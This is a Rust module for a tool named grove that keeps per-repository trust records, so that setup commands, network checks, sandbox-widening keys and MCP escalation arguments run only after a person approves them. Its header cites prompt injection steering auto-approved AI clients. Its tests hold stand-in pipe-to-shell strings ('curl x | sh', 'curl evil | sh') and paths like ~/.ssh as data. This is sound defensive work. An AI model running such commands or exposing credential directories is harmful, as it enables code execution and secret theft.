//! Trust on first use of setup commands: a `[worktree] setup` command from
//! `.grove/config.toml` runs only once the user has trusted that exact text in that
//! repository (like `direnv allow`); so does a `[check]` command with `network = true`
//! (it can send the repository's contents anywhere, like a setup command). So do the
//! run arguments an MCP client could use to escalate ([`McpGrant`]: a `cmd:` worker
//! backend, `sandbox: off`, `allow_network`): a client whose grove tools are
//! auto-approved may be following a prompt injected into what it read. So do the
//! file's keys that widen what workers' commands see ([`Widening`]: `[sandbox]
//! allow_read`, `[worktree] copy`, an explicit `[worktree] share`), each by its exact
//! value: a worker could have written them, and a reviewer approved it.
//!
//! This module owns the trust records and the check. It must never trust anything by
//! itself (reading or writing the config file is not trust; only `grove trust`, which a
//! person types, records it) and never keep a record where something that arrives with a
//! repository, or a worker, could plant one.
//!
//! Where the records live: the user's data directory, `$XDG_DATA_HOME/grove/trust/`
//! (default `~/.local/share/grove/trust/`), one file per repository and command. Not in
//! the repository: its common dir travels in a tarball or a copied checkout (a record
//! there would arrive trusted), and its work tree is what workers edit. Sandboxed
//! commands write only in their worktree and its temporary directory, so no worker can
//! write a record; the default place is under a dot-directory of the home, which the
//! sandbox also hides from reading. With `--sandbox off`, or an external worker CLI
//! running with the user's rights, nothing on the machine is out of a worker's reach —
//! the README says so.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::settings::widening::Widening;
use crate::text::fnv1a;

/// The subcommand that records trust, as messages name it.
pub const TRUST_COMMAND: &str = "grove trust";

/// The trust records of this user.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustStore {
    dir: PathBuf,
}

/// One trusted setup command (or MCP run argument): the file's contents, compared
/// exactly (the file name is only a hash of them, to find it).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct TrustRecord {
    /// The repository's work tree root, canonical.
    repository: PathBuf,
    /// The setup command, byte for byte as the config file has it; or the MCP argument
    /// as `name=value`.
    command: String,
    /// Set for an MCP run argument, so that no setup command's text can stand for one.
    /// Records of setup commands carry none (and read as they did before it existed).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    mcp: Option<bool>,
    /// Set for a widening of the sandbox: the config key (`sandbox.allow_read`), whose
    /// value `command` then holds as TOML writes it; so that no setup command's text can
    /// stand for one, nor one key's value for another's.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    key: Option<String>,
}

/// A run argument an MCP client may give only once a person has trusted that exact value
/// in the repository with `grove trust --mcp NAME=VALUE`: each lets what the client
/// asks run with the user's rights or reach the network.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum McpGrant {
    /// `worker_backend: "cmd:COMMAND"`: the command runs unsandboxed as the worker.
    CmdBackend(String),
    /// `sandbox: "off"`: workers' commands run with the user's full rights.
    SandboxOff,
    /// `allow_network: true`: workers' commands reach the network.
    AllowNetwork,
}

impl McpGrant {
    /// `name=value`, as `grove trust --mcp` takes it and the record keeps it.
    pub fn as_argument(&self) -> String {
        match self {
            McpGrant::CmdBackend(command) => format!("worker_backend=cmd:{command}"),
            McpGrant::SandboxOff => "sandbox=off".to_owned(),
            McpGrant::AllowNetwork => "allow_network=true".to_owned(),
        }
    }

    /// What it lets a client do, for the refusal.
    fn consequence(&self) -> &'static str {
        match self {
            McpGrant::CmdBackend(_) => "runs that command as every worker, with your rights",
            McpGrant::SandboxOff => "runs every worker's commands with your full rights",
            McpGrant::AllowNetwork => "lets every worker's commands reach the network",
        }
    }
}

/// Why `grove trust --mcp` cannot take an argument.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "`{0}` is not an MCP argument that needs trust; give one of \
     `worker_backend=cmd:COMMAND`, `sandbox=off`, `allow_network=true`"
)]
pub struct McpGrantError(pub String);

impl std::str::FromStr for McpGrant {
    type Err = McpGrantError;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        match text.split_once('=') {
            Some(("worker_backend", value)) => match value.strip_prefix("cmd:") {
                Some(command) if !command.trim().is_empty() => {
                    Ok(McpGrant::CmdBackend(command.to_owned()))
                }
                _ => Err(McpGrantError(text.to_owned())),
            },
            Some(("sandbox", "off")) => Ok(McpGrant::SandboxOff),
            Some(("allow_network", "true")) => Ok(McpGrant::AllowNetwork),
            _ => Err(McpGrantError(text.to_owned())),
        }
    }
}

/// Why a setup command may not run, or trust could not be checked or recorded.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// The user has not trusted this setup command in this repository: it is new, or it
    /// changed since it was trusted. The run stops before it creates anything; not
    /// retried.
    #[error(
        "{} asks grove to run this setup command in every new worktree, and you have not \
         trusted it in this repository (it is new, or it changed since you trusted it):\n\n    \
         {command}\n\nRead it; to trust exactly this command here, run: {TRUST_COMMAND}",
        config.display()
    )]
    Untrusted {
        /// The config file that holds the command.
        config: PathBuf,
        command: String,
    },
    /// The user has not trusted this `[check]` command, which asks for the network
    /// (`network = true`), in this repository: it is new, or it changed since it was
    /// trusted. A check without the network needs no trust (it can do no more than a
    /// worker's `bash`). The run stops before it creates anything; not retried.
    #[error(
        "{} asks grove to run this check with network access on every subtask and on the \
         result, and you have not trusted it in this repository (it is new, or it changed \
         since you trusted it):\n\n    {command}\n\nRead it; to trust exactly this command \
         here, run: {TRUST_COMMAND} (or set `network = false` in [check])",
        config.display()
    )]
    UntrustedCheck {
        /// The config file that holds the command.
        config: PathBuf,
        command: String,
    },
    /// The repository's config (or the journal of the run being resumed) widens what
    /// workers' commands see with values the user has not trusted in this repository:
    /// new, or changed since they were trusted. Listed all at once, each with what it
    /// does. The run stops before it creates anything or asks any model; not retried.
    #[error(
        "{} widens what workers' commands can see, and you have not trusted this in this \
         repository (it is new, or it changed since you trusted it):\n\n{}\nRead it; to \
         trust exactly this here, run: {TRUST_COMMAND}",
        config.display(),
        widenings_shown(widenings)
    )]
    UntrustedWidening {
        /// The config file that asks for them.
        config: PathBuf,
        widenings: Vec<Widening>,
    },
    /// An MCP client asked for a run argument that no person has trusted in this
    /// repository with exactly this value. Nothing was created; not retried.
    #[error(
        "the MCP client asked for `{argument}`, which {consequence}; a person has not trusted \
         that in this repository (a client can be steered by text it read). If you asked \
         for it, run in {}: {command}",
        repository.display()
    )]
    UntrustedMcp {
        /// `name=value`.
        argument: String,
        consequence: &'static str,
        repository: PathBuf,
        /// The `grove trust --mcp …` command that trusts it, shell-quoted.
        command: String,
    },
    /// Neither `XDG_DATA_HOME` nor `HOME` names a directory. Not retried.
    #[error(
        "cannot tell where to keep trusted setup commands: set HOME (or XDG_DATA_HOME) to your \
         home directory"
    )]
    NoDataDir,
    /// The repository's root cannot be resolved. Not retried.
    #[error("cannot resolve the repository root {}: {source}", path.display())]
    Repository {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    /// A record could not be read, written or its directory created. Not retried.
    #[error("trust record {}: {operation}: {source}", path.display())]
    Io {
        operation: &'static str,
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    /// A record could not be encoded. Not retried.
    #[error("trust record {}: cannot encode it: {source}", path.display())]
    Encode {
        path: PathBuf,
        #[source]
        source: serde_json::Error,
    },
}

impl TrustStore {
    /// The records kept in `dir`.
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        Self { dir: dir.into() }
    }

    /// The user's records: `$XDG_DATA_HOME/grove/trust` when that is an absolute path,
    /// else `$HOME/.local/share/grove/trust`.
    pub fn for_user() -> Result<Self, TrustError> {
        let absolute = |name: &str| {
            std::env::var_os(name)
                .map(PathBuf::from)
                .filter(|path| path.is_absolute())
        };
        let data = absolute("XDG_DATA_HOME")
            .or_else(|| absolute("HOME").map(|home| home.join(".local").join("share")))
            .ok_or(TrustError::NoDataDir)?;
        Ok(Self::new(data.join("grove").join("trust")))
    }

    /// Where the records are.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// Whether `command` is trusted in the repository whose work tree is `repo_root`.
    pub fn is_trusted(&self, repo_root: &Path, command: &str) -> Result<bool, TrustError> {
        self.holds(&TrustRecord::new(repo_root, command, None, None)?)
    }

    /// Whether a person trusted an MCP client to ask for `grant` in the repository whose
    /// work tree is `repo_root`.
    pub fn is_trusted_mcp(&self, repo_root: &Path, grant: &McpGrant) -> Result<bool, TrustError> {
        self.holds(&TrustRecord::new(
            repo_root,
            &grant.as_argument(),
            Some(true),
            None,
        )?)
    }

    /// Records that MCP clients may ask for `grant` in the repository whose work tree is
    /// `repo_root`; returns the record's path.
    pub fn trust_mcp(&self, repo_root: &Path, grant: &McpGrant) -> Result<PathBuf, TrustError> {
        self.record(&TrustRecord::new(
            repo_root,
            &grant.as_argument(),
            Some(true),
            None,
        )?)
    }

    /// Refuses `grant` from an MCP client unless it is trusted in the repository whose
    /// work tree is `repo_root`.
    pub fn check_mcp(&self, repo_root: &Path, grant: &McpGrant) -> Result<(), TrustError> {
        if self.is_trusted_mcp(repo_root, grant)? {
            return Ok(());
        }
        let argument = grant.as_argument();
        Err(TrustError::UntrustedMcp {
            command: format!(
                "{TRUST_COMMAND} --mcp {}",
                crate::text::shell_word(&argument)
            ),
            argument,
            consequence: grant.consequence(),
            repository: repo_root.to_path_buf(),
        })
    }

    fn holds(&self, record: &TrustRecord) -> Result<bool, TrustError> {
        let path = self.record_path(record);
        let bytes = match std::fs::read(&path) {
            Ok(bytes) => bytes,
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(false),
            Err(source) => {
                return Err(TrustError::Io {
                    operation: "read",
                    path,
                    source,
                });
            }
        };
        // A record that does not parse, or that names another repository or command (a
        // hash collision), trusts nothing.
        Ok(serde_json::from_slice::<TrustRecord>(&bytes).is_ok_and(|found| found == *record))
    }

    /// Records that `command` is trusted in the repository whose work tree is
    /// `repo_root`; returns the record's path.
    pub fn trust(&self, repo_root: &Path, command: &str) -> Result<PathBuf, TrustError> {
        self.record(&TrustRecord::new(repo_root, command, None, None)?)
    }

    /// Whether `widening`, with exactly its value, is trusted in the repository whose
    /// work tree is `repo_root`.
    pub fn is_trusted_widening(
        &self,
        repo_root: &Path,
        widening: &Widening,
    ) -> Result<bool, TrustError> {
        self.holds(&TrustRecord::widening(repo_root, widening)?)
    }

    /// Records that `widening`, with exactly its value, is trusted in the repository
    /// whose work tree is `repo_root`; returns the record's path.
    pub fn trust_widening(
        &self,
        repo_root: &Path,
        widening: &Widening,
    ) -> Result<PathBuf, TrustError> {
        self.record(&TrustRecord::widening(repo_root, widening)?)
    }

    /// Refuses the `widenings` that `config` asks for unless each is trusted, with
    /// exactly its value, in the repository whose work tree is `repo_root`; the refusal
    /// lists every one that is not.
    pub fn check_widenings(
        &self,
        repo_root: &Path,
        config: &Path,
        widenings: &[Widening],
    ) -> Result<(), TrustError> {
        let mut untrusted = Vec::new();
        for widening in widenings {
            if !self.is_trusted_widening(repo_root, widening)? {
                untrusted.push(widening.clone());
            }
        }
        if untrusted.is_empty() {
            Ok(())
        } else {
            Err(TrustError::UntrustedWidening {
                config: config.to_path_buf(),
                widenings: untrusted,
            })
        }
    }

    fn record(&self, record: &TrustRecord) -> Result<PathBuf, TrustError> {
        let path = self.record_path(record);
        let io = |operation: &'static str, path: &Path| {
            let path = path.to_path_buf();
            move |source| TrustError::Io {
                operation,
                path,
                source,
            }
        };
        std::fs::create_dir_all(&self.dir).map_err(io("create directory", &self.dir))?;
        let mut bytes = serde_json::to_vec_pretty(record).map_err(|source| TrustError::Encode {
            path: path.clone(),
            source,
        })?;
        bytes.push(b'\n');
        // Whole or not at all: a reader never sees half a record.
        let temp = path.with_extension(format!("tmp-{}", std::process::id()));
        std::fs::write(&temp, &bytes).map_err(io("write", &temp))?;
        std::fs::rename(&temp, &path).map_err(io("rename into place", &path))?;
        Ok(path)
    }

    /// Refuses `command` from `config` unless it is trusted in the repository whose work
    /// tree is `repo_root`.
    pub fn check(&self, repo_root: &Path, config: &Path, command: &str) -> Result<(), TrustError> {
        if self.is_trusted(repo_root, command)? {
            Ok(())
        } else {
            Err(TrustError::Untrusted {
                config: config.to_path_buf(),
                command: command.to_owned(),
            })
        }
    }

    /// Refuses the `[check]` `command` from `config`, which asks for the network, unless
    /// it is trusted in the repository whose work tree is `repo_root`. A record is the
    /// command's exact text, the same as for a setup command: either runs sandboxed with
    /// the network in every worktree.
    pub fn check_network_check(
        &self,
        repo_root: &Path,
        config: &Path,
        command: &str,
    ) -> Result<(), TrustError> {
        if self.is_trusted(repo_root, command)? {
            Ok(())
        } else {
            Err(TrustError::UntrustedCheck {
                config: config.to_path_buf(),
                command: command.to_owned(),
            })
        }
    }

    fn record_path(&self, record: &TrustRecord) -> PathBuf {
        let mut key = record.repository.as_os_str().as_encoded_bytes().to_vec();
        key.push(0);
        if record.mcp.is_some() {
            key.extend_from_slice(b"mcp\0");
        }
        if let Some(name) = &record.key {
            key.extend_from_slice(b"key\0");
            key.extend_from_slice(name.as_bytes());
            key.push(0);
        }
        key.extend_from_slice(record.command.as_bytes());
        self.dir.join(format!("{:016x}.json", fnv1a(&key)))
    }
}

/// Each widening on its own lines: the key and value, then what it does.
fn widenings_shown(widenings: &[Widening]) -> String {
    widenings
        .iter()
        .map(|widening| format!("    {widening}\n        ({})\n", widening.key.consequence()))
        .collect()
}

impl TrustRecord {
    fn widening(repo_root: &Path, widening: &Widening) -> Result<Self, TrustError> {
        Self::new(
            repo_root,
            &widening.value(),
            None,
            Some(widening.key.name().to_owned()),
        )
    }

    fn new(
        repo_root: &Path,
        command: &str,
        mcp: Option<bool>,
        key: Option<String>,
    ) -> Result<Self, TrustError> {
        let repository = repo_root
            .canonicalize()
            .map_err(|source| TrustError::Repository {
                path: repo_root.to_path_buf(),
                source,
            })?;
        Ok(Self {
            repository,
            command: command.to_owned(),
            mcp,
            key,
        })
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn trust_is_per_exact_command_and_repository() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let other = tempfile::tempdir().unwrap();
        let store = TrustStore::new(home.path().join("trust"));
        assert!(
            !store.is_trusted(repo.path(), "npm ci").unwrap(),
            "nothing is trusted at first"
        );
        store.trust(repo.path(), "npm ci").unwrap();
        assert_eq!(
            (
                store.is_trusted(repo.path(), "npm ci").unwrap(),
                store.is_trusted(repo.path(), "npm ci ").unwrap(),
                store
                    .is_trusted(repo.path(), "npm ci && curl x | sh")
                    .unwrap(),
                store.is_trusted(other.path(), "npm ci").unwrap(),
            ),
            (true, false, false, false),
            "only the exact text, in the repository it was trusted in"
        );
    }

    #[test]
    fn an_mcp_grant_is_trusted_by_its_own_record_only() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let store = TrustStore::new(home.path());
        let grant: McpGrant = "worker_backend=cmd:./agent.sh".parse().unwrap();
        store.trust(repo.path(), &grant.as_argument()).unwrap();
        assert!(
            !store.is_trusted_mcp(repo.path(), &grant).unwrap(),
            "a setup command with the same text is not trust for an MCP client"
        );
        store.trust_mcp(repo.path(), &grant).unwrap();
        assert_eq!(
            (
                store.is_trusted_mcp(repo.path(), &grant).unwrap(),
                store
                    .is_trusted_mcp(repo.path(), &McpGrant::CmdBackend("./other.sh".into()))
                    .unwrap(),
                store
                    .is_trusted_mcp(repo.path(), &McpGrant::SandboxOff)
                    .unwrap(),
            ),
            (true, false, false),
            "only the exact value is trusted"
        );
        assert_eq!(
            [
                "sandbox=off",
                "allow_network=true",
                "sandbox=on",
                "worker_backend=claude"
            ]
            .map(|text| text.parse::<McpGrant>().ok()),
            [
                Some(McpGrant::SandboxOff),
                Some(McpGrant::AllowNetwork),
                None,
                None
            ]
        );
    }

    #[test]
    fn a_widening_is_trusted_by_its_key_and_exact_value_only() {
        use crate::settings::widening::{Widening, WideningKey};
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let store = TrustStore::new(home.path());
        let widening = |key, paths: &[&str]| Widening {
            key,
            paths: paths.iter().map(|path| (*path).to_owned()).collect(),
        };
        let ssh = widening(WideningKey::AllowRead, &["~/.ssh"]);
        // A setup command whose text is the value is no trust of the value.
        store.trust(repo.path(), &ssh.value()).unwrap();
        let config = repo.path().join(".grove/config.toml");
        let refused = store
            .check_widenings(repo.path(), &config, std::slice::from_ref(&ssh))
            .unwrap_err()
            .to_string();
        assert_eq!(
            refused,
            format!(
                "{} widens what workers' commands can see, and you have not trusted this in \
                 this repository (it is new, or it changed since you trusted it):\n\n    \
                 sandbox.allow_read = [\"~/.ssh\"]\n        (lets every worker's commands \
                 read these paths of your machine)\n\nRead it; to trust exactly this here, \
                 run: grove trust",
                config.display()
            ),
            "the refusal names the key, its value, what it does and the command"
        );
        store.trust_widening(repo.path(), &ssh).unwrap();
        assert_eq!(
            [
                ssh.clone(),
                widening(WideningKey::AllowRead, &["~/.ssh", "~/.aws"]),
                widening(WideningKey::Copy, &["~/.ssh"]),
            ]
            .map(|widening| store.is_trusted_widening(repo.path(), &widening).unwrap()),
            [true, false, false],
            "only the exact value of the key it was trusted for"
        );
        assert!(
            store
                .check_widenings(repo.path(), &config, std::slice::from_ref(&ssh))
                .is_ok()
        );
    }

    #[test]
    fn a_record_naming_another_command_trusts_nothing() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let store = TrustStore::new(home.path());
        let path = store.trust(repo.path(), "make setup").unwrap();
        let planted = std::fs::read_to_string(&path)
            .unwrap()
            .replace("make setup", "curl evil | sh");
        std::fs::write(&path, planted).unwrap();
        assert!(
            !store.is_trusted(repo.path(), "make setup").unwrap(),
            "the record's text is compared, not just its file name"
        );
    }
}
